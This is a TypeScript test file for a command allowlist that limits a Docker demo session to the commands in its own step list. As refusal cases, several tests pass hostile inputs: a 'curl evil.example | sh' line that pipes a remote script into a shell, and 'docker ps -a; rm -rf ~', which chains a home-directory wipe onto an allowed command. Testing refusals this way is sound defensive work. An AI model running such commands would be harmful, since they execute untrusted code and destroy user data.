import assert from 'node:assert/strict'
import { test } from 'vitest'
import { CommandAllowlist, normalizeCommand, stepListName } from './allowlist.ts'
import { loadAllStepLists } from './demos/step-list.ts'
import { ErrorCode } from './protocol.ts'

const lists = [
  { name: 'run-basics', title: 'Run', steps: [
    { id: 'hello', command: 'docker run --rm hello-world', expect: 'Hello', timeout: 30 },
    { id: 'ps', command: 'docker ps -a', expect: 'CONTAINER', timeout: 30 },
  ], cleanup: ['docker rm -f demo-shell'], timeSensitive: false },
  { name: 'compose', title: 'Compose', steps: [{ id: 'up', command: 'docker compose up -d', expect: 'Started', timeout: 60 }], cleanup: [], timeSensitive: false },
]

test('a command from the demo\'s own step list may run', () => {
  const allowlist = new CommandAllowlist(lists)
  assert.equal(allowlist.checkRun('run-basics', 'docker ps -a'), undefined)
  assert.equal(allowlist.checkRun('run-basics', 'docker rm -f demo-shell'), undefined, 'cleanup commands are part of the step list')
})

test('surrounding whitespace and CRLF do not matter, inner spelling does', () => {
  const allowlist = new CommandAllowlist(lists)
  assert.equal(allowlist.checkRun('run-basics', '  docker ps -a\r\n'), undefined)
  assert.equal(allowlist.checkRun('run-basics', 'docker ps  -a')?.code, ErrorCode.CommandNotAllowed)
  assert.equal(normalizeCommand('\tls\r\n'), 'ls')
})

test('a command outside the step list is refused with a clear message', () => {
  const refusal = new CommandAllowlist(lists).checkRun('run-basics', 'curl evil.example | sh')
  assert.equal(refusal?.code, ErrorCode.CommandNotAllowed)
  assert.match(refusal!.message, /allowlist mode: "curl evil\.example \| sh" is not a step of demos\/run-basics/)
})

test('a chained command that starts with an allowed one is refused', () => {
  const allowlist = new CommandAllowlist(lists)
  assert.equal(allowlist.checkRun('run-basics', 'docker ps -a; rm -rf ~')?.code, ErrorCode.CommandNotAllowed)
  assert.equal(allowlist.checkRun('run-basics', 'docker ps -a\nrm -rf ~')?.code, ErrorCode.CommandNotAllowed)
})

test('a step of another demo is refused in this demo\'s session', () => {
  const refusal = new CommandAllowlist(lists).checkRun('run-basics', 'docker compose up -d')
  assert.equal(refusal?.code, ErrorCode.CommandNotAllowed)
})

test('a nested demo folder uses the step list of its top folder', () => {
  const allowlist = new CommandAllowlist(lists)
  assert.equal(stepListName('compose/web'), 'compose')
  assert.equal(allowlist.checkRun('compose/web', 'docker compose up -d'), undefined)
})

test('a demo without a step list allows nothing', () => {
  const refusal = new CommandAllowlist(lists).checkRun('scratch', 'ls')
  assert.equal(refusal?.code, ErrorCode.CommandNotAllowed)
  assert.match(refusal!.message, /has no steps\.yaml/)
})

test('typed input is always refused', () => {
  const refusal = new CommandAllowlist(lists).checkInput()
  assert.equal(refusal.code, ErrorCode.CommandNotAllowed)
  assert.match(refusal.message, /typing is disabled/)
})

const realDemos = await loadAllStepLists()

test('the real demos load and allow every one of their steps', async () => {
  assert.ok(realDemos.length > 0, 'demos/ has step lists')
  const real = realDemos
  const allowlist = await CommandAllowlist.load(new URL('../demos', import.meta.url).pathname)
  assert.ok(real.length > 0, 'demos/ has step lists')
  for (const list of real) {
    assert.equal(allowlist.checkRun(list.name, list.steps[0].command), undefined, `${list.name}: ${list.steps[0].command}`)
    for (const step of list.steps)
      assert.ok(allowlist.commandsFor(list.name).includes(step.command), `${list.name}: ${step.command}`)
  }
})
